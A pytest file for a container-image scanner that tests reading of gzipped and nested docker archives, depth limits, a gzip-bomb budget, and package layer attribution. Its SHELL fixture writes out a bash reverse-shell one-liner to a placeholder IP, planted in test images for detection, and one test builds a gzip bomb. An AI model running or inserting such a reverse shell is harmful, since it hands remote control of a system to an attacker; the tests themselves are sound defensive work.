"""Images inside other containers: a gzip'd ``docker save``, an image tarball in a layer (read
as an image once, nested only so deep), and what each language package's layer was (PyPI and
npm: the packages no layer inventories, jars and gems, have none to carry)."""

from __future__ import annotations

import gzip
import io
import json
import tarfile
from pathlib import Path

from outwork.core.artifact import Kind
from outwork.core.budgets import Budgets
from outwork.engine.pipeline import ScanOptions, scan
from tests.imagebuild import Image, Node, docker_archive

SHELL = Node(b"#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", mode=0o755)


def _image(tmp_path: Path, name: str, files: dict[str, bytes | Node]) -> tuple[Path, str]:
    path = tmp_path / name
    names = docker_archive(path, Image([{"etc/hostname": b"x\n"}, files], config={"User": "a"}))
    return path, names["1"]


def _codes_at(result_findings: list, suffix: str) -> set[str]:
    return {f.rule.code for f in result_findings if f.location.path.endswith(suffix)}


def test_a_gzipped_docker_save_is_read_as_an_image(tmp_path: Path) -> None:
    plain, layer = _image(tmp_path, "plain.tar", {"usr/local/bin/update": SHELL})
    packed = tmp_path / "app.tar.gz"
    packed.write_bytes(gzip.compress(plain.read_bytes(), mtime=0))
    plain.unlink()
    result = scan([str(packed)], ScanOptions(jobs=1, cache_dir=None))
    kinds = {a.path: a.kind for a in result.artifacts}
    assert kinds[str(packed)] is Kind.IMAGE
    where = f"{packed}!/{layer}!/usr/local/bin/update"
    assert "IMG008" in _codes_at(result.findings, where)


def test_a_gzipped_tar_that_is_no_image_stays_an_archive(tmp_path: Path) -> None:
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w") as tf:
        info = tarfile.TarInfo("pkg-1.0/run.sh")
        body = SHELL.data
        info.size = len(body)
        tf.addfile(info, io.BytesIO(body))
    packed = tmp_path / "pkg-1.0.tar.gz"
    packed.write_bytes(gzip.compress(raw.getvalue(), mtime=0))
    result = scan([str(packed)], ScanOptions(jobs=1, cache_dir=None))
    assert not [a for a in result.artifacts if a.kind is Kind.IMAGE]


def test_an_image_inside_an_image_is_read_as_an_image_once(tmp_path: Path) -> None:
    inner, inner_layer = _image(tmp_path, "inner.tar", {"usr/local/bin/update": SHELL})
    outer, outer_layer = _image(tmp_path, "outer.tar", {"srv/images/inner.tar": inner.read_bytes()})
    result = scan([str(outer)], ScanOptions(jobs=1, cache_dir=None))
    nested = f"{outer}!/{outer_layer}!/srv/images/inner.tar"
    images = [a.path for a in result.artifacts if a.kind is Kind.IMAGE]
    assert sorted(images) == sorted([str(outer), nested])
    where = f"{nested}!/{inner_layer}!/usr/local/bin/update"
    assert "IMG008" in _codes_at(result.findings, where)
    # not read a second time as the plain tar it also is
    assert not [a for a in result.artifacts if a.path.startswith(f"{nested}!/{inner_layer}/")]


def test_images_nested_deeper_than_the_bound_are_read_as_plain_tars(tmp_path: Path) -> None:
    level, _ = _image(tmp_path, "l0.tar", {"usr/local/bin/update": SHELL})
    for depth in range(1, 4):
        level, _ = _image(tmp_path, f"l{depth}.tar", {f"srv/l{depth - 1}.tar": level.read_bytes()})
    result = scan([str(level)], ScanOptions(jobs=1, cache_dir=None))
    assert len([a for a in result.artifacts if a.kind is Kind.IMAGE]) == 3
    assert any("nested images are read as images" in s.reason for s in result.skipped)
    # the deepest shell is still read, as a member of the plain tar
    assert any(a.path.endswith("usr/local/bin/update") for a in result.artifacts)


def test_a_gzip_bomb_posing_as_an_image_stops_at_the_budget(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.tar.gz"
    with gzip.open(bomb, "wb", compresslevel=9) as out:
        out.write(b"\x00" * (64 << 20))
    budgets = Budgets(max_total_bytes=16 << 20)
    result = scan([str(bomb)], ScanOptions(jobs=1, cache_dir=None, budgets=budgets))
    assert [f for f in result.findings if f.rule.code.startswith("CORE")]


def test_language_packages_carry_their_layer_of_origin(tmp_path: Path) -> None:
    site = "usr/local/lib/python3.11/site-packages"
    layers: list[dict[str, bytes | Node]] = [
        {"etc/os-release": b"ID=debian\nVERSION_ID=12\n"},
        {
            f"{site}/requests-2.31.0.dist-info/METADATA": b"Metadata-Version: 2.1\n"
            b"Name: requests\nVersion: 2.31.0\n"
        },
        {
            "app/node_modules/left-pad/package.json": json.dumps(
                {"name": "left-pad", "version": "1.3.0"}
            ).encode()
        },
    ]
    path = tmp_path / "langs.tar"
    names = docker_archive(path, Image(layers, config={"User": "app"}))
    result = scan([str(path)], ScanOptions(jobs=1, cache_dir=None))
    seen = {}
    for artifact in result.artifacts:
        for component in artifact.properties.get("components", []):
            props = component["properties"]
            if "layer_index" in props and not props.get("package_manager"):
                seen[component["name"]] = props["layer_index"], props["layer"]
    assert seen["requests"][0] == 1
    assert seen["left-pad"][0] == 2
    assert all(digest.startswith("sha256:") for _, digest in seen.values())
    assert len({digest for _, digest in seen.values()}) == len(seen)  # one layer each
    assert names["1"]
